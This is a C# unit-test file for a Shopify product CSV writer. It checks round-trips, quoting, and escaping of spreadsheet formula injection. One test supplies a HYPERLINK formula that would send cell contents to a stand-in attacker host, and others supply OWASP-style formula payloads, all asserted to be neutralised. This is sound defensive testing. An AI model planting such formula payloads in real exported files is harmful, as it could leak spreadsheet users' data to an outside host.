using SyncStudio.Catalog;

namespace SyncStudio.Tests.Unit.Catalog;

public class ShopifyCsvWriterTests
{
    [Fact]
    public void SampleCatalogSurvivesARoundTrip()
    {
        var products = SampleCatalog.Load();

        var reread = RoundTrip(products);

        AssertSameCatalog(products, reread);
    }

    [Theory]
    [InlineData("shopifypartners-apparel.csv")]
    [InlineData("shopify-template-2023.csv")]
    [InlineData("packt-products-export.csv")]
    public void RealShopifyFilesSurviveARoundTrip(string fileName)
    {
        using var reader = new StreamReader(CatalogTestFiles.RequireCatalog(fileName));
        var products = ShopifyCsvReader.ReadAll(reader).Products;

        AssertSameCatalog(products, RoundTrip(products));
    }

    [Fact]
    public void FieldsWithCommasQuotesAndLineBreaksAreQuoted()
    {
        var product = new CatalogProduct
        {
            Handle = "tricky",
            Title = "Mug, \"Large\"",
            BodyHtml = "<p>one\ntwo</p>",
            Tags = ["a", "b"],
            OptionNames = ["Size", "Color"],
            Variants =
            [
                new CatalogVariant { Price = 5m, OptionValues = ["S", "Red"], Weight = 0.625m, WeightUnit = CatalogWeightUnit.Pounds },
                new CatalogVariant { Price = 6.5m, OptionValues = ["M", "Red"], Sku = "T-M" },
            ],
        };

        var csv = ShopifyCsvWriter.WriteToString([product]);
        var lines = csv.Split('\n');

        Assert.StartsWith("tricky,\"Mug, \"\"Large\"\"\",\"<p>one", lines[1], StringComparison.Ordinal);
        Assert.Contains(",283.4952313,", csv, StringComparison.Ordinal); // 0.625 lb in grams
        Assert.Contains(",6.50,", lines[3], StringComparison.Ordinal);
        AssertSameCatalog([product], RoundTrip([product]));
    }

    [Fact]
    public void FormulaLeadingTextCellsAreWrittenAsQuotedTextAndReadBackUnchanged()
    {
        var product = new CatalogProduct
        {
            Handle = "formulas",
            Title = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
            BodyHtml = "\n<p>starts with a line feed</p>",
            Vendor = "+1",
            ProductType = "@SUM(A1:A2)",
            Tags = ["-2+3", "plain"],
            OptionNames = ["Size"],
            Variants = [new CatalogVariant { Price = 5m, InventoryQuantity = 7, OptionValues = ["\t=cmd"], Sku = "=SKU", Barcode = "\r@x" }],
        };

        var csv = ShopifyCsvWriter.WriteToString([product]);
        var rows = csv[(csv.IndexOf('\n', StringComparison.Ordinal) + 1)..];

        Assert.StartsWith("formulas,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",\"'\n<p>", rows, StringComparison.Ordinal);
        Assert.Contains(",\"'+1\",", csv, StringComparison.Ordinal);
        Assert.Contains(",\"'@SUM(A1:A2)\",", csv, StringComparison.Ordinal);
        Assert.Contains(",\"'-2+3, plain\",", csv, StringComparison.Ordinal);
        Assert.Contains(",\"'\t=cmd\",", csv, StringComparison.Ordinal);
        Assert.Contains(",\"'=SKU\",", csv, StringComparison.Ordinal);
        Assert.Contains(",\"'\r@x\",", csv, StringComparison.Ordinal);
        // Numbers are written from numbers and stay numbers: a negative quantity (Shopify allows one) is no formula.
        product.Variants[0].InventoryQuantity = -3;
        Assert.Contains(",-3,deny,manual,5.00,", ShopifyCsvWriter.WriteToString([product]), StringComparison.Ordinal);
        product.Variants[0].InventoryQuantity = 7;
        var read = ShopifyCsvReader.ReadAll(new StringReader(csv)).Products.Single();
        Assert.Equal(product.Title, read.Title);
        Assert.Equal(product.BodyHtml, read.BodyHtml);
        Assert.Equal((product.Vendor, product.ProductType), (read.Vendor, read.ProductType));
        Assert.Equal(product.Tags, read.Tags);
        Assert.Equal(("=SKU", "@x"), (read.Variants[0].Sku, read.Variants[0].Barcode)); // the reader trims these columns, as before
        Assert.Equal(["=cmd"], read.Variants[0].OptionValues);
    }

    [Theory]
    [InlineData("=1+2\";=1+2", "\"'=1+2\"\";=1+2\"")]
    [InlineData("=1+2'\" ;,=1+2", "\"'=1+2'\"\" ;,=1+2\"")]
    public void OwaspsExamplesAreEscapedAsThePageShows(string title, string cell)
    {
        var csv = ShopifyCsvWriter.WriteToString([new CatalogProduct { Handle = "owasp", Title = title, OptionNames = ["Title"], Variants = [new CatalogVariant { OptionValues = ["Default Title"] }] }]);

        Assert.StartsWith($"owasp,{cell},", csv.Split('\n')[1], StringComparison.Ordinal);
        Assert.Equal(title, ShopifyCsvReader.ReadAll(new StringReader(csv)).Products.Single().Title);
    }

    [Theory]
    [InlineData("'=already guarded by hand")]
    [InlineData("''@two quotes")]
    [InlineData("'not a formula")]
    [InlineData("a;=b")]
    public void TextThatLooksGuardedOrSplitsOnSemicolonsSurvivesARoundTrip(string title)
    {
        var product = new CatalogProduct { Handle = "kept", Title = title, OptionNames = ["Title"], Variants = [new CatalogVariant { OptionValues = ["Default Title"] }] };

        var csv = ShopifyCsvWriter.WriteToString([product]);

        Assert.Equal(title, RoundTrip([product]).Single().Title);
        if (title.Contains(';', StringComparison.Ordinal))
            Assert.Contains($",\"{title}\",", csv, StringComparison.Ordinal); // one cell for a spreadsheet splitting on ';'
    }

    private static IReadOnlyList<CatalogProduct> RoundTrip(IEnumerable<CatalogProduct> products)
    {
        var result = ShopifyCsvReader.ReadAll(new StringReader(ShopifyCsvWriter.WriteToString(products)));
        Assert.Empty(result.Errors);
        return result.Products;
    }

    internal static void AssertSameCatalog(IReadOnlyList<CatalogProduct> expected, IReadOnlyList<CatalogProduct> actual)
    {
        Assert.Equal(expected.Count, actual.Count);
        for (var i = 0; i < expected.Count; i++)
        {
            var (e, a) = (expected[i], actual[i]);
            Assert.Equal(
                (e.Handle, e.Title, e.BodyHtml, e.Vendor, e.ProductType, e.Status),
                (a.Handle, a.Title, a.BodyHtml, a.Vendor, a.ProductType, a.Status));
            Assert.Equal(e.Tags, a.Tags);
            Assert.Equal(e.OptionNames, a.OptionNames);
            Assert.Equal(e.Variants.Count, a.Variants.Count);
            for (var v = 0; v < e.Variants.Count; v++)
            {
                var (ev, av) = (e.Variants[v], a.Variants[v]);
                Assert.Equal(
                    (ev.Sku, ev.Price, ev.CompareAtPrice, ev.InventoryQuantity, ev.Barcode, ev.Weight, ev.WeightUnit),
                    (av.Sku, av.Price, av.CompareAtPrice, av.InventoryQuantity, av.Barcode, av.Weight, av.WeightUnit));
                Assert.Equal(ev.OptionValues, av.OptionValues);
            }
        }
    }
}
